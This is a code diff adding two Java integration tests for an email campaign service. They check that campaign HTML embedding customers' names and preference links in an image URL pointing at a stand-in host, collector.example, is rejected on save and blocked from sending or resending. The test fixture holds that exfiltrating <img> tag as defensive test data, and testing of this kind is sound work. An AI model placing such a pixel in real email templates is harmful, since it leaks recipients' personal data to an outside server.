@@ -16,6 +16,7 @@ import app.custodian.testing.Resources;
 import app.custodian.testing.TestKeys;
 import app.custodian.testing.TestSmtp;
 import com.icegreen.greenmail.util.GreenMail;
+import jakarta.json.Json;
 import jakarta.json.JsonObject;
 import java.nio.file.Path;
 import java.sql.Connection;
@@ -218,6 +219,90 @@ class CampaignsIT {
       }
       assertTrue(dump.toLowerCase().contains("executioninstancedata"), "the batch repository");
     }
+  }
+
+  @Test
+  void aCampaignWhoseHtmlSendsTheNameToAnotherServerIsRefusedAndNotSaved() throws Exception {
+    String name = "Collector " + UUID.randomUUID();
+    String collector =
+        "<img src=\"https://collector.example/p?n={{fullName}}&u={{preferencesUrl}}\">"
+            + "<a href=\"{{unsubscribeUrl}}\">Hủy</a>";
+    Reply refused =
+        marketer.post(
+            "/api/v1/campaigns",
+            Json.createObjectBuilder()
+                .add("name", name)
+                .add("subject", "Tin")
+                .add("textBody", BODY)
+                .add("htmlBody", collector)
+                .build()
+                .toString());
+
+    assertEquals(400, refused.status(), refused::toString);
+    assertEquals("application/problem+json", refused.header("Content-Type"));
+    JsonObject error = refused.json().getJsonArray("errors").getJsonObject(0);
+    assertEquals("htmlBody", error.getString("field"), refused::toString);
+    assertTrue(error.getString("message").contains("{{fullName}}"), refused::toString);
+    assertTrue(error.getString("message").contains("src attribute of <img>"), refused::toString);
+    try (Connection db = postgres.connect(databaseUrl);
+        var query = db.prepareStatement("select count(*) from campaign where name = ?")) {
+      query.setString(1, name);
+      try (ResultSet row = query.executeQuery()) {
+        row.next();
+        assertEquals(0, row.getInt(1), "nothing saved");
+      }
+    }
+  }
+
+  @Test
+  void aCampaignSavedBeforeTheTemplateRulesThatBreaksThemIsNeverSent() throws Exception {
+    String email = customer(true);
+    String customerId = customerId(email);
+    String subject = "Trước quy tắc " + UUID.randomUUID();
+    String campaignId;
+    try (Connection db = postgres.connect(databaseUrl)) {
+      campaignId =
+          new DatabaseSeeds(db, null, null)
+              .campaign(
+                  "NEWSLETTER",
+                  true,
+                  subject,
+                  BODY,
+                  "<img src=\"https://collector.example/p?n={{fullName}}\">"
+                      + "<a href=\"{{unsubscribeUrl}}\">Hủy</a>");
+      // a message a dead run left uncertain: resending it must not release it either
+      try (var uncertain =
+          db.prepareStatement(
+              "insert into delivery (campaign_id, customer_id, status, advertising,"
+                  + " attempted_at) values (?, ?, 'UNCERTAIN', true, current_timestamp)")) {
+        uncertain.setString(1, campaignId);
+        uncertain.setString(2, customerId);
+        uncertain.executeUpdate();
+      }
+    }
+
+    for (String action : List.of("send", "resend-uncertain")) {
+      Reply refused = marketer.post("/api/v1/campaigns/" + campaignId + "/" + action, "");
+      assertEquals(409, refused.status(), action + ": " + refused);
+      assertEquals("application/problem+json", refused.header("Content-Type"));
+      JsonObject error = refused.json().getJsonArray("errors").getJsonObject(0);
+      assertEquals("htmlBody", error.getString("field"), refused::toString);
+      assertTrue(error.getString("message").contains("{{fullName}}"), refused::toString);
+    }
+
+    JsonObject campaign = marketer.get("/api/v1/campaigns/" + campaignId).json();
+    assertEquals("DRAFT", campaign.getString("status"), campaign::toString);
+    assertEquals(1, campaign.getJsonObject("stats").getInt("uncertain"), campaign::toString);
+    assertEquals(0, campaign.getJsonObject("stats").getInt("sent"), campaign::toString);
+    try (Connection db = postgres.connect(databaseUrl);
+        var query = db.prepareStatement("select execution_id from campaign where id = ?")) {
+      query.setString(1, campaignId);
+      try (ResultSet row = query.executeQuery()) {
+        row.next();
+        assertEquals(null, row.getObject(1), "no run started");
+      }
+    }
+    assertEquals(List.of(), ReceivedMail.recipientsOf(smtp, "[QC] " + subject), "nobody mailed");
   }
 
   // --- helpers
